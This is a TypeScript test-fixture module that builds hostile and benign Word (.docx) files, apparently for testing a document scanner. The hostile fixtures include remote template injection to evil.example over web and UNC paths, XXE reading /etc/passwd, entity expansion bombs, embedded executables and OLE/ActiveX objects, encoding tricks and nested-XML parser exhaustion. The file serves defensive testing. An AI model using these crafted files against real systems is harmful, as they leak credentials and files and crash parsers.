import type { ArchiveEnd, ArchivePart } from './hostile-archive.ts'
import { archive } from './hostile-archive.ts'

/** The content type of a Word document's main part. */
export const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const STRICT_RELATIONSHIPS = 'http://purl.oclc.org/ooxml/officeDocument/relationships'

/** A list of content types. @param more further entries */
export function contentTypes(main = MAIN, more = ''): string {
  return `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`
}

/** A Word document with more parts than it needs. */
export function docx(more: ArchivePart[] = [], end: ArchiveEnd = {}, types: string | Buffer = contentTypes()) {
  const parts = [{ name: '[Content_Types].xml', content: types }, { name: 'word/document.xml' }, ...more]
  return archive(parts, end)
}

/** The namespace of a document's main part. */
export const W_NAMESPACE = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** A Word document whose main part is this. */
export function docxOf(document: string | Buffer, more: ArchivePart[] = []) {
  return archive([
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: 'word/document.xml', content: document },
    ...more,
  ])
}

/** A relationship, in one piece of XML. */
function relationship(type: string, target: string, more = 'TargetMode="External"'): string {
  return `<Relationship Id="rId9" Type="${RELATIONSHIPS}/${type}" Target="${target}" ${more}/>`
}

const inList = (content: string) => `<?xml version="1.0"?><Relationships xmlns="urn:x">${content}</Relationships>`

/** A Word document of which one part has these relationships. */
function related(content: string | Buffer, name = 'word/_rels/document.xml.rels') {
  return docx([{ name, content: typeof content === 'string' ? inList(content) : content }])
}

const external = (type: string, target: string) => related(relationship(type, target))
const internal = (type: string, target: string) => related(relationship(type, target, ''))

/** Documents that make Word fetch something by itself, in the ways in which that can be hidden. */
export const REMOTE_CONTENT: Record<string, Buffer<ArrayBuffer>> = {
  'a template of the web': external('attachedTemplate', 'https://evil.example/t.dotm'),
  'a template of a share': external('attachedTemplate', '\\\\evil.example\\s\\t.dotm'),
  'a template of a share by an address': external('attachedTemplate', 'file://evil.example/s/t.dotm'),
  'a template of a share behind slashes': external('attachedTemplate', 'file:///\\\\evil.example\\s\\t.dotm'),
  'a template of a share behind escapes': external('attachedTemplate', 'file:///%5C%5Cevil.example%5Cs%5Ct.dotm'),
  'a template of a share by a device path': external('attachedTemplate', 'file:///?/UNC/evil.example/s/t.dotm'),
  'a template with a broken escape': external('attachedTemplate', 'file:///C:/%ff.dotm'),
  'a picture of the web': external('image', 'https://evil.example/1.png'),
  'a picture of this machine': external('image', 'file:///C:/Windows/win.ini'),
  'a frame of the web': external('frame', 'https://evil.example/'),
  'a style sheet of the web': external('transform', 'https://evil.example/1.xsl'),
  'a mode in small letters': related(relationship('image', 'https://evil.example/1.png', 'TargetMode="external"')),
  'a mode with an entity': related(relationship('image', 'https://evil.example/1.png', 'TargetMode="Ext&#101;rnal"')),
  'no mode': internal('image', 'https://evil.example/1.png'),
  'no mode and a share': internal('image', '\\\\evil.example\\1.png'),
  'a prefix': related(
    `<p:Relationship xmlns:p="urn:x" p:x="" Type="${RELATIONSHIPS}/image" Target="http://a/" TargetMode="External"/>`,
  ),
  'a type of the strict kind': related(
    `<Relationship Type="${STRICT_RELATIONSHIPS}/image" Target="http://a/" TargetMode="External"/>`,
  ),
  'a comment before it': related(`<!-- > -->${relationship('image', 'http://a/')}`),
  'quotes of the other kind': related(relationship('image', 'http://a/').replaceAll('"', "'")),
  'the list of a header': related(relationship('image', 'http://a/'), 'word/_rels/header7.xml.rels'),
  'the list of the whole': related(relationship('image', 'http://a/'), '_rels/.rels'),
  'a list in capitals': related(relationship('image', 'http://a/'), 'WORD/_RELS/DOCUMENT.XML.RELS'),
  'a list with an escape in its name': related(relationship('image', 'http://a/'), 'word/_rels/document.xml%2Erels'),
  'a list of a part that nothing names': related(relationship('image', 'http://a/'), 'x/_rels/y.bin.rels'),
  'the type of a link, for a picture': docxOf('<w:p><a:blip r:link = "rId9"/></w:p>', [
    { name: 'word/_rels/document.xml.rels', content: inList(relationship('hyperlink', 'https://evil.example/1.png')) },
  ]),
  'the type of a link, with blanks after the sign': docxOf(
    `<w:p><a:blip r:link =${'\n'.repeat(200_000)}"rId9"/></w:p>`,
    [
      {
        name: 'word/_rels/document.xml.rels',
        content: inList(relationship('hyperlink', 'https://evil.example/1.png')),
      },
    ],
  ),
  'the type of a link, with blanks before the sign': docxOf(
    `<w:p><a:blip r:link${' '.repeat(200_000)}="rId9"/></w:p>`,
    [
      {
        name: 'word/_rels/document.xml.rels',
        content: inList(relationship('hyperlink', 'https://evil.example/1.png')),
      },
    ],
  ),
}

/** Documents with objects, programs, controls and documents in them. */
export const EMBEDDED_FILES: Record<string, Buffer<ArrayBuffer>> = {
  'an external object': external('oleObject', 'https://evil.example/1.html!x-usc:'),
  'an embedded object': internal('oleObject', 'embeddings/oleObject1.bin'),
  'an embedded program': internal('package', 'embeddings/program.exe'),
  'an active control': internal('control', 'activeX/activeX1.xml'),
  'another document': internal('aFChunk', 'other.html'),
  'an add-in': internal('webextensiontaskpanes', 'webextensions/taskpanes.xml'),
  'a type in small letters': internal('oleobject', 'x.bin'),
  'a type with an entity': internal('ole&#79;bject', 'x.bin'),
  'an object that nothing names': docx([{ name: 'word/embeddings/oleObject1.bin' }]),
  'a control that nothing names': docx([{ name: 'word/ActiveX/activeX1.bin' }]),
  'the workbook of a chart': docx([{ name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx' }]),
  'an object by its content type': docx(
    [],
    {},
    contentTypes(
      MAIN,
      '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    ),
  ),
  'another document under the type of a link': docxOf('<w:body><w:altChunk r:id="rId9"/></w:body>'),
  'the same where two pieces of the part meet': docxOf(
    `<w:body>${' '.repeat(65_527)}<w:altChunk r:id="rId9"/></w:body>`,
  ),
}

const ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

/** Documents with a DOCTYPE, in parts of every kind. */
export const DOCTYPES: Record<string, Buffer<ArrayBuffer>> = {
  'entities in the main part': docxOf(`<?xml version="1.0"?>${ENTITIES}<x>&b;</x>`),
  'an entity from outside': docxOf('<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
  'entities behind a long comment': docxOf(`<!--${' '.repeat(200_000)}-->${ENTITIES}<x/>`),
  'entities in another part': docx([{ name: 'customXml/item1.xml', content: `${ENTITIES}<x/>` }]),
  'entities in a part without an ending': docx([{ name: 'customXml/item1', content: `\n ${ENTITIES}<x/>` }]),
  'entities among relationships': related(Buffer.from(`<?xml version="1.0"?>${ENTITIES}<Relationships/>`)),
}

/** Parts that one program reads and another does not: of these, nothing more is said. */
export const UNREADABLE_PARTS: Record<string, Buffer<ArrayBuffer>> = {
  'a main part in UTF-16': docxOf(Buffer.from(`\ufeff${ENTITIES}<x/>`, 'utf16le')),
  'a main part in UTF-16 without a mark': docxOf(Buffer.from(`${ENTITIES}<x/>`, 'utf16le')),
  'a main part in UTF-7': docxOf('<?xml version="1.0" encoding="UTF-7"?><x/>'),
  'a main part in UTF-7 that says so late': docxOf(`<?xml version="1.0"${' '.repeat(300)}encoding="UTF-7"?><x/>`),
  'a main part whose declaration is endless': docxOf(`<?xml version="1.${'0'.repeat(300)}" encoding="UTF-7"?><x/>`),
  'another document behind an endless prefix': docxOf(`<x><${'w'.repeat(70_000)}:altChunk r:id="rId9"/></x>`),
  'a main part that is no XML': docxOf('PK'),
  'relationships in UTF-16': related(Buffer.from(`\ufeff${inList(relationship('image', 'http://a/'))}`, 'utf16le')),
  'relationships that are not well-formed': related(relationship('image', 'http://a/').replace('/>', '>')),
}

/** How many of one thing a part has that is to be refused for it; less than the part may have in bytes. */
const VERY_MANY = 20_000

/** Relationships that are deeper or longer than any list, so that a parser works more for each of them than for one. */
export const COSTLY_RELATIONSHIPS: Record<string, Buffer<ArrayBuffer>> = {
  'tags in each other': related('<a>'.repeat(VERY_MANY)),
  'tags in each other that are closed': related('<a>'.repeat(VERY_MANY) + '</a>'.repeat(VERY_MANY)),
  'namespaces in each other': related(manyTimes((at) => `<a xmlns:a${at}="u">`, VERY_MANY / 2)),
  'a tag with many namespaces': related(`<a ${manyTimes((at) => `xmlns:a${at}="u" `)}/>`),
  'a tag with many attributes': related(`<a ${manyTimes((at) => `a${at}="" `)}/>`),
  'many tags': related('<a/>'.repeat(VERY_MANY)),
  'one relationship nine tags deep': related(`${'<a>'.repeat(9)}${relationship('hyperlink', 'x')}${'</a>'.repeat(9)}`),
}

function manyTimes(make: (at: number) => string, count = VERY_MANY): string {
  return Array.from({ length: count }, (_, at) => make(at)).join('')
}

const TEMPLATE_OF_WORD = 'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Polished%20resume.dotx'

/** What honest documents have of this. */
export const HONEST_RELATIONS: Record<string, Buffer<ArrayBuffer>> = {
  'links of every kind': related(
    ['https://a.example/?a=1&amp;b=2', 'mailto:a@example.com', 'file:///C:/cv.pdf', '#top', '\\\\server\\share']
      .map((target) => relationship('hyperlink', target))
      .join(''),
  ),
  'the template that Word notes': external('attachedTemplate', TEMPLATE_OF_WORD),
  'the template that Word for Mac notes': external('attachedTemplate', 'file:////Users/ana/Library/Resume.dotx'),
  'the template beside it': external('attachedTemplate', 'Resume%20of%20mine.dotx'),
  'words about markup': docxOf('<w:t>r:link, w:altChunk and &lt;!DOCTYPE html&gt; by the :OLEObject :subDoc </w:t>'),
  'a style that is linked': docxOf('<w:style><w:link w:val="Heading1Char"/></w:style>'),
  'a long text': docxOf(`<w:t>${'Ignition '.repeat(100_000)}</w:t>`),
  // As Google Docs exports: without docProps, with embedded fonts and its data.
  'what Google Docs writes': docx([
    { name: 'word/fonts/Roboto-regular.ttf', content: Buffer.from('00010000', 'hex') },
    { name: 'word/_rels/fontTable.xml.rels', content: inList(relationship('font', 'fonts/Roboto-regular.ttf', '')) },
    { name: 'customXml/item1.xml', content: '<?xml version="1.0" encoding="utf-8"?><go:gDocsCustomXmlDataStorage/>' },
    { name: 'word/_rels/document.xml.rels', content: inList(relationship('customXml', '../customXml/item1.xml', '')) },
  ]),
  // As Word writes a document that was begun with one of its templates.
  'a glossary, a header with a picture and a thumbnail': docx([
    { name: 'word/glossary/document.xml' },
    { name: 'word/media/image1.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
    { name: 'word/_rels/header1.xml.rels', content: inList(relationship('image', 'media/image1.svg', '')) },
    {
      name: 'word/_rels/document.xml.rels',
      content: inList(relationship('glossaryDocument', 'glossary/document.xml', '')),
    },
    { name: '_rels/.rels', content: inList(relationship('metadata/thumbnail', 'docProps/thumbnail.jpeg', '')) },
  ]),
}
